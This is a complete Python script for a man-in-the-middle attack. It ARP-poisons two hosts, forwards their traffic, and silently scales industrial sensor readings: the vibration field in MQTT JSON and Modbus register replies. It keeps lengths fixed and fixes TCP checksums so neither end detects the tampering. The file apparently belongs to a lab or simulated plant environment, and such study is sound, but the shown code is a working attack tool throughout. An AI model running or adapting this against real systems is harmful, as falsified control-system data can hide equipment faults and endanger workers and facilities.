"""A man in the middle: takes the traffic between two addresses by ARP, forwards it, and alters readings on the way.

    attack_mitm.py A B SECONDS mqtt|modbus FACTOR

`mqtt`: the vibration in the sensor's JSON, in as many characters. `modbus`: the first register of answers of ten
registers. Lengths stay, so both TCP ends go on without noticing.
"""

import re
import socket
import struct
import sys
import threading
import time

import plantclock
from attack_arp import mac_of, poison
from rawlink import checksum, link, own_mac

a, b, seconds, what, factor = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4], float(sys.argv[5])
raw, mine = link(), own_mac()
known = {socket.inet_aton(a): mac_of(a)}
beyond = mac_of(b)  # everything that is not for A goes on to B
VIBRATION = re.compile(rb'"vibration": ([0-9.]+)')


def louder(match: re.Match[bytes]) -> bytes:
    old = match.group(1)
    return b'"vibration": ' + f"{float(old) * factor:.6f}".encode()[: len(old)]


def altered(payload: bytes) -> bytes:
    if what == "mqtt":
        return VIBRATION.sub(louder, payload)
    if len(payload) == 29 and payload[7:9] == b"\x03\x14":  # MBAP, function 3, twenty bytes
        value = min(65535, int(struct.unpack("!H", payload[9:11])[0] * factor))
        return payload[:9] + struct.pack("!H", value) + payload[11:]
    return payload


def forwarded(frame: bytes) -> bytes:
    """The frame with its next hop, its reading altered and its checksum right."""
    head = known.get(frame[30:34], beyond) + mine + frame[12:14]
    size = struct.unpack("!H", frame[16:18])[0]
    ip, tcp = frame[14:34], frame[34 : 14 + size]
    if ip[9] != socket.IPPROTO_TCP or ip[0] != 0x45:
        return head + frame[14 : 14 + size]
    start = (tcp[12] >> 4) * 4
    payload = altered(tcp[start:])
    if payload != tcp[start:]:
        bare = tcp[:16] + b"\0\0" + tcp[18:start] + payload
        total = checksum(ip[12:20] + struct.pack("!BBH", 0, 6, len(bare)) + bare)
        tcp = bare[:16] + struct.pack("!H", total) + bare[18:]
    return head + ip + tcp


threading.Thread(target=poison, args=(a, b, seconds), daemon=True).start()
raw.settimeout(0.5)
end = time.monotonic() + plantclock.real(seconds) + 1
while time.monotonic() < end:
    try:
        frame = raw.recv(4096)
    except TimeoutError:
        continue
    if frame[:6] == mine and frame[6:12] != mine and frame[12:14] == b"\x08\x00":
        raw.send(forwarded(frame))
